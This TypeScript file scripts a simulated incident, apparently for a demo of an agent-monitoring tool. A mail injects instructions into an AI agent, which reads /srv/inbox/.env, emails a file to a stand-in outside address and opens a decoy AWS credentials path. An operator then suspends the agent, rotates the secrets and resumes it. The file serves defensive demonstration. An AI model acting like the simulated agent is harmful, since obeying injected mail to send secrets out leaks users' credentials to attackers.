import { injectionDetected } from '../simulate/events.ts'
import type { SimulatedCall } from '../simulate/tool-calls.ts'
import type { Act, PastAgent, PastFleet } from './past-fleet.ts'

const secondMs = 1_000
const minuteMs = 60 * secondMs

const decoyPath = '/srv/inbox/.aws/credentials'
const secretRead: SimulatedCall = {
  toolName: 'file-read',
  doing: 'Read the settings of the mailbox',
  params: { path: '/srv/inbox/.env' },
}
const mailToAttacker: SimulatedCall = {
  toolName: 'email-send',
  doing: 'Answered a mail with an attachment',
  params: { to: 'invoice-check@collector.example', subject: 'Requested file' },
}

/**
 * An incident from the first sign to its end: a mail instructs an agent, which sends a secret away and opens a decoy. An
 * operator suspends it, finds the cause, and resumes it.
 */
export function decoyIncident(
  fleet: PastFleet,
  agent: PastAgent,
  { plantedAt, at }: { plantedAt: number; at: number },
): Act[] {
  const { operator } = fleet
  const { id, name } = agent.member
  const params = { instanceId: id }
  const plant = async (label: string, path: string) => {
    await operator('createHoneypot', { body: { instanceId: id, type: 'file_path', path, label } })
  }
  const handle = async (
    change: { status: 'acknowledged' } | { status: 'resolved'; verdict: 'true_positive' },
    comment: string,
  ) => {
    const { alerts } = await operator('listAlerts', { query: { instance_id: id, limit: '100' } })
    for (const alert of alerts) {
      if (alert.status === 'resolved' || Date.parse(alert.created_at) < at) continue
      await operator('changeAlert', { params: { id: alert.id }, body: { ...change, assignee: 'me', comment } })
    }
  }
  const after = (ms: number, run: () => Promise<void>): Act => ({ at: at + ms, run })
  return [
    { at: plantedAt, run: () => plant(`Demo: planted for ${name}`, decoyPath) },
    after(0, async () => {
      fleet.beginSession(agent)
      await fleet.report(agent, [
        {
          ...injectionDetected(),
          description: 'A mail tells the agent to collect credentials and to send them to an address outside',
          metadata: { detector: 'input-filter', origin: 'mail from invoice-check@collector.example' },
        },
      ])
    }),
    after(38 * secondMs, () => fleet.report(agent, fleet.calls(agent, [secretRead]))),
    after(72 * secondMs, () => fleet.report(agent, fleet.calls(agent, [mailToAttacker]))),
    after(101 * secondMs, async () => {
      const meta = { instance_id: id, tool: 'file-read' }
      await operator('checkPath', { body: { path: decoyPath, meta } })
    }),
    after(165 * secondMs, async () => {
      await operator('killInstance', { params, body: { reason: 'Opened a decoy after an injection by mail' } })
    }),
    after(166 * secondMs, () => fleet.obey(agent)),
    after(6 * minuteMs, () =>
      handle(
        { status: 'acknowledged' },
        'Suspended. A mail of this session asks for credentials; looking for what was sent.',
      ),
    ),
    after(48 * minuteMs, () =>
      plant(`Demo: planted for ${name} after the incident`, '/srv/inbox/backup/.aws/credentials'),
    ),
    after(71 * minuteMs, () =>
      handle(
        { status: 'resolved', verdict: 'true_positive' },
        'One file was sent: its secrets are rotated, and the agent can no longer read it. The filter now removes instructions from mails.',
      ),
    ),
    after(73 * minuteMs, async () => {
      await operator('resumeInstance', { params })
    }),
    after(73 * minuteMs + secondMs, async () => {
      await fleet.obey(agent)
      fleet.beginSession(agent)
    }),
  ]
}
